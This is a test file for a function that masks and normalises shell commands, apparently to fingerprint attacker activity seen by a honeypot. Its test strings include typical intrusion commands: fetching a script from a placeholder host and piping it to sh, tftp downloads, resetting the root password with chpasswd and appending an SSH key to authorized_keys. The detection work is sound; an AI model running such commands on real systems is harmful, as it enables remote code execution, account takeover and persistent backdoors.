import { describe, expect, it } from "vitest"
import { maskedTokens } from "../../../src/domain/fingerprints/maskedTokens.ts"

const masked = (line: string) => maskedTokens(line).join(" ")

describe("masking a line", () => {
  it.each([
    ["uname -a; cat /proc/cpuinfo | grep name", "uname -a ; cat /proc/cpuinfo | grep name"],
    ["wget http://192.0.2.7/bins/x.sh", "wget http://<address>/bins/x.sh"],
    ["wget http://192.0.2.7:8080/x.sh -O- | sh", "wget http://<address>/x.sh -O- | sh"],
    ["curl https://bad.example.com/a", "curl https://<address>/a"],
    ["tftp -g -r m.sh 198.51.100.9", "tftp -g -r m.sh <address>"],
    ['echo "root:wOodpEcker"|chpasswd|bash', "echo <secret> | chpasswd | bash"],
    ['echo -e "old\\nnew1\\nnew1"|passwd|bash', "echo -e <secret> | passwd | bash"],
    ["/bin/busybox QWXZKP", "/bin/busybox <random>"],
    ["cd /tmp && ./LpWTUfvv", "cd /tmp && ./<random>"],
    ["chmod +x /tmp/a8Xk2pQ9", "chmod +x /tmp/<random>"],
    ["echo -ne '\\x7f\\x45\\x4c'", "echo -ne <bytes>"],
    ["echo deadbeef01234567", "echo <hex>"],
    ["kill 12345", "kill <number>"],
    ["echo aGVsbG8gd29ybGQgdGhpcyBpcyBsb25n | base64 -d", "echo <encoded> | base64 -d"],
  ])("makes '%s' into '%s'", (line, tokens) => {
    expect(masked(line)).toBe(tokens)
  })

  it("leaves nothing of a key, nor of the comment behind it", () => {
    const key = `ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA${"r4nDomKey".repeat(9)}== somebody`
    const tokens = masked(`echo "${key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh`)
    expect(tokens).toBe("echo <key> >> .ssh/authorized_keys && chmod -R go= ~/.ssh")
  })

  it("is the same for the same script with other passwords, addresses and names", () => {
    const script = (host: string, name: string, password: string) =>
      masked(`cd /tmp; wget http://${host}/${name}; echo "root:${password}"|chpasswd; ./${name}`)
    expect(script("192.0.2.7", "x8Qz3Lm1", "plum")).toBe(
      script("203.0.113.9", "k2Wp9Rt4", "tr33t0p"),
    )
  })

  it("is bounded, however long the line and its tokens are", () => {
    const tokens = maskedTokens(`${"z/".repeat(5000)} ${"a b ".repeat(5000)}`)
    expect(tokens.length).toBeLessThanOrEqual(4096)
    for (const token of tokens) expect(token.length).toBeLessThanOrEqual(64)
  })

  it("gives text that can be stored, whatever was typed", () => {
    expect(masked("\ud800 \u0000 x").isWellFormed()).toBe(true)
    expect(maskedTokens("")).toEqual([])
  })
})
